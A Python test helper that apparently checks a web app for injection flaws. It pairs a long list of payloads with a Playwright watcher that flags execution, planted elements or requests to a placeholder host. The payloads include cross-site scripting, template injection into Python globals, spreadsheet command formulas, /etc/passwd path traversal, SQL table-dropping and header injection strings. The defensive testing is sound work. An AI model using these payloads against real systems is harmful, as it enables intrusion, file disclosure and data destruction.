"""Texts that try to be code, and a browser that notices when one of them was.

What runs calls `ran()`, opens a dialog or asks `CANARY`; what only became part of a page left an
element with `data-planted`, or a link to `CANARY` or a script.
"""

import csv
import io
import unicodedata
from dataclasses import dataclass, field
from urllib.parse import urlsplit

from playwright.sync_api import BrowserContext, Dialog, Error, Frame, Page

CANARY = "canary.invalid"
_ON = "data-planted onerror=ran()"

# Begun by a browser when it stands in a page as HTML: the detector itself is tried on them.
RUN_AS_HTML = {
    "image": f"<img src=x {_ON}>",
    "image after a value": f"'\"><img src=x {_ON}>",
    "image without spaces": "<img/src='x'/data-planted/onerror=ran()>",
    "mixed case": "<iMg SrC=x data-planted OnErRoR=ran()>",
    "vector picture": "<svg data-planted onload=ran()></svg>",
    "frame": '<iframe data-planted srcdoc="<script>parent.ran()</script>"></iframe>',
    "frame of a script": '<iframe data-planted src="javascript:parent.ran()"></iframe>',
    "details": "<details data-planted open ontoggle=ran()><summary>x</summary></details>",
    "focus": "<input data-planted autofocus onfocus=ran()>",
    "audio": f"<audio src=x {_ON}></audio>",
    "video source": f"<video><source src=x {_ON}></video>",
    "animation": (
        "<style>@keyframes p{}</style><b data-planted style=animation-name:p "
        "onanimationstart=ran()>x</b>"
    ),
    "picture from elsewhere": f"<img data-planted src=//{CANARY}/img>",
    "style": f"<style data-planted>body{{background:url(//{CANARY}/css)}}</style>",
    "style of an element": f"<p data-planted style='background:url(//{CANARY}/p)'>x</p>",
    "end of a text field": f"</textarea><img src=x {_ON}>",
    "end of a title": f"</title><img src=x {_ON}>",
    "end of a comment": f"--><img src=x {_ON}>",
}
PAYLOADS = RUN_AS_HTML | {
    "unclosed image": f"<img src=x {_ON}//",
    "vector picture in mathematics": (
        "<math><mtext><table><mglyph><style><img data-planted src=x onerror=ran()>"
    ),
    "script": "<script data-planted>ran()</script>",
    "end of a script": "</script><script data-planted>ran()</script>",
    "script from elsewhere": f"<script data-planted src=//{CANARY}/js></script>",
    "import of styles": f"<style data-planted>@import '//{CANARY}/import';</style>",
    "refresh": f'<meta data-planted http-equiv=refresh content="0;url=//{CANARY}/refresh">',
    "base": f"<base data-planted href=//{CANARY}/>",
    "form": f"<form data-planted action=//{CANARY}/form><button>x</button></form>",
    "template of a script": "${ran()}",
    "template in a template": "`${ran()}`",
    "template of a page": "{{constructor.constructor('ran()')()}}",
    "template of Jinja": "{{ 7*191919 }}{% raw %}{{ self.__init__.__globals__ }}",
    "format": "{0.__class__.__mro__} {name} %s %(name)s %n {",
    "end of a text in a script": '\\"+ran()+\\"',
    "end of a line in a script": "\u2028ran()//",
    "address of a script": "javascript:ran()",
    "address of a script, hidden": "java\tscript:ran()",
    "address with a page": "data:text/html,<script>parent.ran()</script>",
    "Markdown link": "[x](javascript:ran())",
    "Markdown link elsewhere": f"[x](https://{CANARY}/md)",
    "Markdown picture": f"![x](https://{CANARY}/mdimg)",
    "Markdown address": f"<https://{CANARY}/auto> https://{CANARY}/bare",
    "Markdown heading": "# x\n\n---\n```\nx\n| a | b |\n|---|---|\n",
    "Markdown colour": ":red[x] :material/lock: :streamlit: $\\href{javascript:ran()}{x}$",
    "entities": "&lt;img src=x onerror=ran()&gt;&#60;img data-planted src=x onerror=ran()&#62;",
    "fullwidth": "＜img data-planted src=x onerror=ran()＞",
    "right to left": "\u202egnp.exe\u2066\u200b\u200f<img src=x data-planted onerror=ran()>",
    "combining": "Z\u0351\u036b\u0343\u0a05\u0e49" + "\u0e49" * 20,
    "formula": '=HYPERLINK("https://canary.invalid/xl","x")',
    "formula, fullwidth": "＝1+1",
    "formula of a command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1",
    "head of an answer": "x\r\nSet-Cookie: planted=1\r\nX-Planted: 1\r\n\r\n<img src=x>",
    "path": "../../../../etc/passwd",
    "path, encoded": "..%2f..%2f..%2fetc%2fpasswd",
    "path of Windows": "..\\..\\windows\\win.ini",
    "end of a query": "'; DROP TABLE booking; --",
    "end of a query, always true": "' OR '1'='1",
    "calendar": "x\r\nEND:VEVENT\r\nATTENDEE:mailto:x\r\nBEGIN:VEVENT",
    "JSON-LD": '</script>"},{"@type":"x"}<script data-planted>ran()</script>',
}
FORMULAS = "=+-@|\t\r\n"
# What became part of a page, in this frame.
_LEFT = """canary => [...document.querySelectorAll(
  '[data-planted], a[href], img[src], form[action], [srcdoc*="ran()"]')]
  .filter(one => one.matches('[data-planted], [srcdoc]') ||
    [one.href, one.src, one.action].some(address => /^(javascript|data:text)/i.test(address) ||
      (typeof address === 'string' && URL.canParse(address) &&
        new URL(address).hostname === canary)))
  .map(one => one.outerHTML.slice(0, 200))"""


@dataclass
class Watch:
    """What planted texts did in the windows of one browser."""

    address: str
    seen: list[str] = field(default_factory=list)

    def on(self, context: BrowserContext) -> None:
        """Begin to look."""
        context.expose_binding("ran", lambda source: self._note("ran", source["page"]))
        context.on("request", lambda request: self._asked(request.url))
        context.on("dialog", self._dialog)

    def _note(self, what: str, page: Page) -> None:
        self.seen.append(f"{what} on {page.url}")

    def _asked(self, url: str) -> None:
        where = urlsplit(url)
        if where.scheme in ("http", "https", "ws", "wss") and where.netloc != self.address:
            self.seen.append(f"asked {url}")

    def _dialog(self, dialog: Dialog) -> None:
        self.seen.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def look(self, page: Page) -> None:
        """What of a page's frames came from a planted text."""
        for frame in page.frames:
            self.seen += [f"{one} on {page.url}" for one in left(frame)]


def left(frame: Frame) -> list[str]:
    """The elements of a frame that a planted text made."""
    try:
        found: list[str] = frame.evaluate(_LEFT, CANARY)
    except Error:  # it went away meanwhile
        return []
    return found


def calculated(content: bytes) -> list[str]:
    """The cells of a CSV file that a spreadsheet would calculate."""
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    return [cell for row in rows for cell in row if _is_formula(cell)]


def _is_formula(cell: str) -> bool:
    shown = unicodedata.normalize("NFKC", cell).lstrip("\u200b\u3000 ")
    return shown[:1] in tuple(FORMULAS) and not _is_number(shown)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
